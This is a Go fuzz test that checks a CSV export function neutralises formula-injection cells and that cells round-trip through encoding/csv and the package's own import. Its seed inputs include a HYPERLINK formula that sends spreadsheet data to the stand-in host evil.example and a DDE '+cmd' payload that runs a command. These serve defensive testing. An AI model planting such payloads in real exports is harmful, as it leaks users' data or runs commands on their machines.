package dataio

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"
)

// number is what a spreadsheet may be given unquoted although it begins
// with a sign: written here apart from plainNumber, to check it.
var number = regexp.MustCompile(`^[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)$`)

// FuzzCSVCell writes a text into a CSV file as every export does and reads
// it back as every import does. The cell written never begins with
// = + - @ tab or carriage return unless it is a plain number, left as it
// was; encoding/csv reads back the cell written; the import reads back the
// text. A line break written \r\n inside a cell reads as \n, as in every
// CSV reader.
func FuzzCSVCell(f *testing.F) {
	for _, s := range []string{"", "=1+1", `=HYPERLINK("http://evil.example/?leak="&A2,"详情")`, "+cmd|' /C calc'!A0",
		"@SUM(1)", "-12.50", "+3", "-", "-.5", "1e5", "'", "'a", "''=", "'-1", "\t", "\tx", "\r", "\r\n=x", "a\r\nb",
		"a,b\"c", " =1", "\ufeff=1", "\xff=", "广州\n=1"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		cell := CSVCell(s)
		if cell != "" && strings.IndexByte("=+-@\t\r", cell[0]) >= 0 && (!number.MatchString(cell) || cell != s) {
			t.Fatalf("CSVCell(%q) = %q, which a spreadsheet may run", s, cell)
		}
		if got := ReadCSVCell(cell); got != s {
			t.Fatalf("ReadCSVCell(CSVCell(%q)) = %q", s, got)
		}

		var buf bytes.Buffer
		w := csv.NewWriter(&buf)
		w.Write([]string{cell, "x"})
		w.Flush()
		rec, err := csv.NewReader(&buf).Read()
		if want := strings.ReplaceAll(cell, "\r\n", "\n"); err != nil || len(rec) != 2 || rec[0] != want {
			t.Fatalf("encoding/csv gives %q, %v for %q, want %q", rec, err, buf.String(), want)
		}

		var file bytes.Buffer
		out, err := newRowWriter(CSV, &file)
		if err != nil {
			t.Fatal(err)
		}
		if err := out.Write([]string{"text", "x"}); err != nil {
			t.Fatal(err)
		}
		if err := out.Write([]string{s, "x"}); err != nil {
			t.Fatal(err)
		}
		if err := out.Close(); err != nil {
			t.Fatal(err)
		}
		// A text as long as the limit imports.
		rr, err := newRowReader(CSV, &file, Limits{MaxCellChars: max(utf8.RuneCountInString(s), 4)}.withDefaults())
		if err != nil {
			t.Fatal(err)
		}
		if _, err := rr.Read(); err != nil {
			t.Fatal(err)
		}
		row, err := rr.Read()
		if want := strings.ReplaceAll(s, "\r\n", "\n"); err != nil || len(row) != 2 || row[0] != want {
			t.Fatalf("import reads %q, %v from %q, want %q", row, err, file.String(), want)
		}
	})
}
